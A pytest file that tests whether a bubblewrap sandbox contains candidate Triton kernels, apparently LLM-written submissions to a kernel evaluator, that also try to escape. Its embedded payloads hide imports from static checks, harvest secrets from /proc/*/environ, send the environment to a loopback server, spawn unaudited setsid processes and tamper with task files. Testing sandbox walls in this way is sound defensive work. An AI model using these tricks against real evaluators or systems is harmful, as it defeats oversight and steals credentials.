"""The OS sandbox holds where the Python-level checks see nothing (issue 26).

Sentinel secrets are set in this process's environment before the pool starts. Each candidate computes the
right answer with a real Triton kernel and, on the side, tries to escape; every payload is reached through
`(lambda: 0).__globals__["__builtins__"]["__import__"]`, which no static check flags, so what is tested is
the namespace wall (evaluators.sandbox), not the audit hooks. Each one is rejected or contained: the sentinel
appears nowhere (result JSON, logs, files outside the worker's scratch), the test's loopback server sees no
connection, the task files are unchanged and no process the candidate started outlives the evaluation.
"""

from __future__ import annotations

import hashlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import psutil
import pytest
import torch
from suite import describe, task_dir

from evaluators import sandbox
from evaluators.config import EvalConfig
from evaluators.pool import WorkerPool

SENTINEL = f"SENTINEL{secrets.token_hex(8)}"
SECRETS = {
    "GITHUB_TOKEN": f"ghp_{SENTINEL}",
    "KERNELBOT_LLM_API_KEY": f"sk-{SENTINEL}",
    "GH_PAT": f"pat-{SENTINEL}",  # a name that says neither TOKEN nor KEY
}
TASK = "scale_add"
# The wall alone: with the static checks and the audit hooks off, every payload runs as far as the box lets
# it (with them on, most are flagged first, which would prove nothing about the box).
WALL_ONLY = EvalConfig(
    backend="triton-interpret", interpret_max_numel=70_000, static_checks=False, runtime_checks=False
)

pytestmark = pytest.mark.skipif(not sandbox.availability().ok, reason="no bubblewrap box on this machine")

KERNEL = """
import torch
import triton
import triton.language as tl

_imp = (lambda: 0).__globals__["__builtins__"]["__import__"]


@triton.jit
def _scale_add_kernel(x_ptr, y_ptr, out_ptr, n, alpha, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(
        out_ptr + offs, tl.load(x_ptr + offs, mask=mask) * alpha + tl.load(y_ptr + offs, mask=mask), mask=mask
    )


def _payload():
    pass  # PAYLOAD


def scale_add(x, y, alpha):
    try:
        _payload()
    except BaseException as exc:
        print("payload failed:", type(exc).__name__, exc)
    out = torch.empty_like(x)
    n = x.numel()
    _scale_add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, alpha, BLOCK=1024)
    return out
"""


def candidate(payload: str) -> str:
    body = "\n".join("    " + line for line in payload.strip().splitlines())
    return KERNEL.replace("    pass  # PAYLOAD", body)


class LoopbackServer:
    """A TCP server on this machine's loopback that records every connection and what it received."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.sock.settimeout(0.2)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data or b"<connected>")

    def close(self) -> None:
        self._stop = True
        self._thread.join(timeout=2)
        self.sock.close()


# The interpreter everywhere; where a GPU is present the CUDA backend as well, whose box binds the GPU's
# devices and driver libraries in: the same walls must hold with them.
BACKENDS = ("triton-interpret", "triton-cuda") if torch.cuda.is_available() else ("triton-interpret",)


@pytest.fixture(scope="module", params=BACKENDS)
def boxed_pool(request: pytest.FixtureRequest) -> Iterator[WorkerPool]:
    saved = {k: os.environ.get(k) for k in SECRETS}
    os.environ.update(SECRETS)
    try:
        config = replace(WALL_ONLY, backend=request.param)
        with WorkerPool(request.param, size=1, config=config) as pool:
            assert pool.sandbox.startswith("bubblewrap"), pool.sandbox
            yield pool
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


@pytest.fixture(scope="module")
def holder() -> Iterator[int]:
    """A process that holds the secrets in its initial environment, as kernelbot's own process does (what
    /proc/<pid>/environ shows is the environment a process started with)."""
    proc = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)"], env={**os.environ, **SECRETS}
    )
    yield proc.pid
    proc.kill()
    proc.wait()


@pytest.fixture()
def server() -> Iterator[LoopbackServer]:
    srv = LoopbackServer()
    yield srv
    srv.close()


def _digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


def spawn_unseen(argv: str, *, setsid: bool, pgid: int = -1) -> str:
    """Payload lines that start `argv` (a Python list expression) through _posixsubprocess.fork_exec, which
    raises no audit event."""
    return f"""
os = _imp("os"); fe = _imp("_posixsubprocess").fork_exec
r, w = os.pipe()
head = ({argv}, [os.fsencode({argv}[0])], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, True)
tail = ({setsid}, {pgid}, None, None, None, -1, None)
try:
    pid = fe(*head, *tail, False)
except TypeError:  # a Python without the allow_vfork argument
    pid = fe(*head, *tail)
print("SPAWNED", pid)
"""


def _marked(marker: str) -> list[psutil.Process]:
    found = []
    for proc in psutil.process_iter(["cmdline", "environ"]):
        try:
            text = " ".join(proc.info["cmdline"] or [])
        except (psutil.Error, TypeError):
            continue
        if marker in text:
            found.append(proc)
    return found


@pytest.fixture(scope="module")
def task(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the suite's task, so that a wall that fails cannot damage the checkout."""
    root = tmp_path_factory.mktemp("sandboxed") / TASK
    shutil.copytree(task_dir(TASK), root)
    return root


def _judge(pool: WorkerPool, task: Path, payload: str, tmp_path: Path) -> str:
    """Evaluate the payload's candidate; everything it may have leaked through, as one text."""
    before = _digest(task)
    result = pool.evaluate(task, candidate(payload), config=replace(WALL_ONLY, backend=pool.backend_name))
    assert _digest(task) == before, "the task directory changed"
    staged = list((pool._root / "tasks").glob("*")) if pool.sandbox.startswith("bubblewrap") else []
    for copy in staged:
        assert _digest(copy) == before, "the worker's copy of the task changed"
    text = result.to_json() + result.logs + describe(result)
    for path in tmp_path.rglob("*"):
        if path.is_file():
            text += path.read_text(errors="replace")
    return text


def test_environ_of_every_process_holds_no_secret(
    boxed_pool: WorkerPool, task: Path, tmp_path: Path, holder: int
) -> None:
    payload = f"""
os = _imp("os")
seen = []
# every pid up to a few thousand (listing /proc is what the audit hook names; reading it is not)
for name in ["self", str(os.getppid()), "{holder}"] + [str(p) for p in range(1, 4096)]:
    try:
        with open(f"/proc/{{name}}/environ", "rb") as f:
            found = f.read().decode(errors="replace").split("\\0")
    except OSError:
        continue
    seen += [v for v in found if any(w in v.split("=")[0] for w in ("TOKEN", "KEY", "PAT"))]
print("ENVIRON-DUMP", len(seen), seen)
print("OWN", dict(os.environ))
with open(f"/proc/{{os.getppid()}}/cmdline", "rb") as f:
    zygote = b"evaluators.zygote" in f.read()
try:  # the zygote that forks the next worker into this box: its memory is out of reach
    with open(f"/proc/{{os.getppid()}}/mem", "rb") as f:
        print("PARENT-MEMORY-OPEN", zygote)
except OSError as exc:
    print("parent memory refused:", exc)
"""
    text = _judge(boxed_pool, task, payload, tmp_path)
    assert "ENVIRON-DUMP" in text  # the payload ran and its output reached the log
    assert SENTINEL not in text
    # (a worker started on its own, KERNELBOT_WORKER_SPAWN=exec, has bwrap's PID 1 of its own box as parent)
    assert "PARENT-MEMORY-OPEN True" not in text


def test_a_setsid_child_neither_survives_nor_reaches_out(
    boxed_pool: WorkerPool, task: Path, server: LoopbackServer, tmp_path: Path, holder: int
) -> None:
    marker = f"kbescape{secrets.token_hex(6)}"
    outside = tmp_path / "leaked.txt"
    child = f"""
import os, socket, time
time.sleep(1.5)
data = b""
for pid in os.listdir("/proc"):
    try:
        data += open(f"/proc/{{pid}}/environ", "rb").read()
    except OSError:
        pass
try:
    open({str(outside)!r}, "wb").write(data)
finally:
    socket.create_connection(("127.0.0.1", {server.port}), timeout=2).sendall(data)
    time.sleep(30)
"""
    payload = spawn_unseen(f'[_imp("sys").executable, "-c", {child!r}, {marker!r}]', setsid=True)
    text = _judge(boxed_pool, task, payload, tmp_path)
    assert "SPAWNED" in text, text[-2000:]
    time.sleep(3.0)  # past the child's sleep: had it survived, it would have written and connected by now
    assert _marked(marker) == []
    assert not outside.exists()
    assert server.received == []
    assert SENTINEL not in text


def test_writes_into_the_task_are_refused_or_land_in_scratch(
    boxed_pool: WorkerPool, task: Path, tmp_path: Path
) -> None:
    original = task
    payload = f"""
os = _imp("os"); torch = _imp("torch")
targets = [{str(original)!r}]
for root, dirs, files in os.walk("/tmp"):
    if "task.toml" in files:
        targets.append(root)
for root in targets:
    for name in ("reference.py", "inputs.py", "task.toml"):
        path = os.path.join(root, name)
        try:
            with open(path, "a") as f:
                f.write("\\nraise SystemExit('pwned')\\n")
            print("WROTE", path)
        except OSError as exc:
            print("refused", path, exc)
        try:
            t = torch.from_file(path, shared=True, size=8, dtype=torch.uint8)
            t.fill_(35)
            print("MAPPED", path)
        except Exception as exc:
            print("refused map", path, type(exc).__name__)
"""
    text = _judge(boxed_pool, task, payload, tmp_path)  # the task and the worker's copy stay unchanged
    assert "refused" in text, text[-2000:]
    assert SENTINEL not in text


def test_loopback_server_of_the_host_is_out_of_reach(
    boxed_pool: WorkerPool, task: Path, server: LoopbackServer, tmp_path: Path
) -> None:
    payload = f"""
socket = _imp("socket"); os = _imp("os")
try:
    s = socket.create_connection(("127.0.0.1", {server.port}), timeout=2)
    s.sendall(repr(dict(os.environ)).encode())
    print("CONNECTED")
except OSError as exc:
    print("NO NETWORK", exc)
"""
    text = _judge(boxed_pool, task, payload, tmp_path)
    assert "NO NETWORK" in text, text[-2000:]
    assert server.received == []
    assert SENTINEL not in text


def test_no_process_of_a_candidate_outlives_its_box(
    boxed_pool: WorkerPool, task: Path, tmp_path: Path
) -> None:
    """A child that stays in the worker's group and one that makes its own group, both sleeping."""
    marker = f"kbstay{secrets.token_hex(6)}"
    argv = f'[_imp("sys").executable, "-c", "import time; time.sleep(60)", {marker!r}]'
    payload = spawn_unseen(argv, setsid=False) + spawn_unseen(argv, setsid=False, pgid=0)
    assert "SPAWNED" in _judge(boxed_pool, task, payload, tmp_path)
    deadline = time.monotonic() + 5
    while _marked(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _marked(marker) == []
